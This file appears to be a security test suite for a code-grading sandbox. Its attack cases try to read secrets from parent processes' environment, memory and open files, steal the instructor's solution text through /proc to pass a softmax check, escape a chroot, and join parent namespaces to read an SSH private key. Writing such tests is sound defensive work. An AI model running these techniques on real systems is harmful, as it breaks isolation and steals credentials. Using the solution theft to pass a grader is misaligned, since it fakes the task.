"""Reading by way of the grader's processes, and out of a changed root: environment, memory, files, name spaces."""

import inspect
import os

from grader.tests.attacks import SLUG, Forgery, attack

_ABOVE = """
    import os, re
    from pathlib import Path

    def above():
        pid, top = os.getpid(), {top}
        while pid > 1 and pid != top:
            pid = int(Path(f"/proc/{{pid}}/stat").read_text().rpartition(")")[2].split()[1])
            yield pid
        yield {victim}

    def secrets(data):
        return set(re.findall(rb"secret-[0-9a-f]{{8}}-[0-9a-f-]{{27}}", data))
    """


def _search(forged: Forgery, text: str) -> None:
    """Run `text` in a cell of its own; `above()` are its parents up to the test itself, and the planted process."""
    above = inspect.cleandoc(_ABOVE).format(top=os.getpid(), victim=forged.planted.victim)
    forged.insert(f"{above}\n\n{inspect.cleandoc(text)}")


@attack()
def environment_of_the_parents(forged: Forgery) -> None:
    """The environment and command line that the processes above were started with."""
    _search(
        forged,
        """
        for pid in [os.getpid(), *above()]:
            for name in ("environ", "cmdline"):
                try:
                    print(pid, name, secrets(Path(f"/proc/{pid}/{name}").read_bytes()))
                except OSError as error:
                    print(error)
        """,
    )


@attack()
def memory_of_the_parents(forged: Forgery) -> None:
    """The memory of the processes that this one descends from, and of another one, as far as it is a stack or heap."""
    _search(
        forged,
        """
        for pid in above():
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        if line.rstrip().endswith(("[heap]", "[stack]")):
                            start, end = (int(number, 16) for number in line.split()[0].split("-"))
                            memory.seek(start)
                            print(pid, secrets(memory.read(min(end - start, 2**26))))
            except OSError as error:
                print(error)
        """,
    )


@attack()
def memory_by_system_call(forged: Forgery) -> None:
    """The same stack by process_vm_readv, which needs no file of /proc but the map."""
    _search(
        forged,
        """
        import ctypes
        class Range(ctypes.Structure):
            _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        libc = ctypes.CDLL(None)
        for pid in above():
            try:
                lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
                line = next(line for line in lines if line.endswith("[stack]"))
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                buffer = ctypes.create_string_buffer(end - start)
                mine, theirs = Range(ctypes.addressof(buffer), end - start), Range(start, end - start)
                libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
                print(pid, secrets(buffer.raw))
            except (OSError, StopIteration) as error:
                print(error)
        """,
    )


@attack("softmax", says="expected")
def root_of_the_parents(forged: Forgery) -> None:
    """The instructor's text through the root and current folder of every process above."""
    text = forged.planted.course.text(SLUG)
    forged.answer("softmax", "def softmax(z):\n    return np.zeros_like(z)\n")
    _search(
        forged,
        f"""
        for pid in above():
            for path in ("root" + {str(text)!r}, "cwd/solutions/{text.name}", "cwd/{text.name}"):
                try:
                    stolen = "def softmax(" + Path(f"/proc/{{pid}}/{{path}}").read_text().split("def softmax(")[1]
                except OSError as error:
                    print(error)
        """,
    )
    forged.append("softmax", 'if "stolen" in globals():\n    exec(stolen.split("\\n# %%")[0])')


@attack()
def open_files_of_the_parents(forged: Forgery) -> None:
    """Whatever files the processes of this user hold open, opened again; and those that this one has inherited."""
    _search(
        forged,
        """
        import stat
        for link in [Path("/proc/self/fd") / name for name in os.listdir("/proc/self/fd")] + [
            path for pid in above() for path in Path(f"/proc/{pid}/fd").glob("*")
        ]:
            try:
                if stat.S_ISREG(os.stat(link).st_mode):
                    print(os.readlink(link), secrets(link.read_bytes()[:2**20]))
            except OSError as error:
                print(error)
        """,
    )


@attack(harmful=True)
def out_of_a_chroot(forged: Forgery) -> None:
    """The old way out of a changed root: change it once more, and climb from a folder that is held open."""
    _search(
        forged,
        f"""
        try:
            outside = os.open("/", os.O_RDONLY)
            os.mkdir("jail")
            os.chroot("jail")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
        except OSError as error:
            print(error)
        try:
            print(secrets(Path({str(forged.planted.home / ".ssh" / "id_ed25519")!r}).read_bytes()))
        except OSError as error:
            print(error)
        """,
    )


@attack(harmful=True)
def namespaces_of_the_parents(forged: Forgery) -> None:
    """Into the name spaces of the processes above, where the files are."""
    _search(
        forged,
        f"""
        import ctypes
        libc = ctypes.CDLL(None)
        for pid in above():
            for space in ("user", "mnt", "pid", "net"):
                try:
                    with open(f"/proc/{{pid}}/ns/{{space}}") as file:
                        libc.setns(file.fileno(), 0)
                except OSError as error:
                    print(error)
        try:
            print(secrets(Path({str(forged.planted.home / ".ssh" / "id_ed25519")!r}).read_bytes()))
        except OSError as error:
            print(error)
        """,
    )
